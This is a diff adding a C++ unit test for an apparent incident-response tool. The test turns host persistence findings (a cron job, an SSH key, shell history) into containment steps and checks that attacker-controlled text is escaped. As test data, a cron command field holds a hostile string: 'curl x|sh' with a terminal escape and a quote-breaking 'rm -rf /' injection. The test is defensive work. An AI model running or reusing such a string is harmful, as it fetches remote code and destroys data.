@@ -81,6 +81,61 @@ TEST(ContainTest, PlanFromFindings) {
   EXPECT_EQ(tasks->size(), plan->steps.size());  // re-run refreshes
 }
 
+// Host persistence (host.h findings) becomes steps naming the file and line; attacker bytes
+// in the command reach contain.sh only quoted and escaped.
+TEST(ContainTest, HostPersistenceBecomesSteps) {
+  testing::TempDir tmp;
+  CaseInfo info;
+  info.name = "t";
+  auto c = Case::Create(tmp.path() + "/case", info);
+  ASSERT_TRUE(c.ok()) << c.status().message();
+  ASSERT_TRUE((*c)->Transaction([&](Db& db) -> Status {
+                    Finding f;
+                    f.component = "host";
+                    f.severity = Severity::kCritical;
+                    f.kind = "host.cron";
+                    f.detail_json = R"({"path":"./var/spool/cron/crontabs/www-data","line":2,)"
+                                    R"("schedule":"*/5 * * * *","user":"www-data",)"
+                                    "\"command\":\"curl x|sh \\u001b[2J'; rm -rf /\"}";
+                    f.dedupe_key = "c";
+                    TQ_RETURN_IF_ERROR(UpsertFinding(db, f).status());
+                    f.kind = "host.ssh_key";
+                    f.severity = Severity::kHigh;
+                    f.detail_json = R"({"path":"root/.ssh/authorized_keys","line":3,)"
+                                    R"("fingerprint":"SHA256:abc","comment":"x@y"})";
+                    f.dedupe_key = "k";
+                    TQ_RETURN_IF_ERROR(UpsertFinding(db, f).status());
+                    f.kind = "host.shell_history";
+                    f.severity = Severity::kMedium;  // context only: no step
+                    f.detail_json = R"({"path":"root/.bash_history","line":9,"command":"ls"})";
+                    f.dedupe_key = "h";
+                    return UpsertFinding(db, f).status();
+                  })
+                  .ok());
+  auto plan = BuildPlan(**c, Options{});
+  ASSERT_TRUE(plan.ok()) << plan.status().message();
+  int cron = 0, key = 0, history = 0;
+  for (const Step& s : plan->steps) {
+    if (s.key.rfind("persistence:cron:", 0) == 0) {
+      ++cron;
+      EXPECT_EQ(s.category, "persistence");
+      EXPECT_NE(s.title.find("var/spool/cron/crontabs/www-data line 2"), std::string::npos)
+          << s.title;
+      ASSERT_EQ(s.commands.size(), 1u);
+      EXPECT_EQ(s.commands[0].find('\x1b'), std::string::npos);  // no raw escape byte
+      EXPECT_EQ(s.commands[0].rfind("echo '", 0), 0u) << s.commands[0];
+    }
+    if (s.key == "persistence:ssh:SHA256:abc") {
+      ++key;
+      EXPECT_NE(s.title.find("Remove the unknown SSH key"), std::string::npos);
+    }
+    if (s.key.rfind("persistence:history:", 0) == 0) ++history;
+  }
+  EXPECT_EQ(cron, 1);
+  EXPECT_EQ(key, 1);
+  EXPECT_EQ(history, 0);
+}
+
 TEST(ContainTest, PrintfBytesIsAsciiAndRoundTrips) {
   std::string raw("a b/\x1b[31m'\\\xff\n%\0z", 16);
   std::string enc = PrintfBytes(raw);
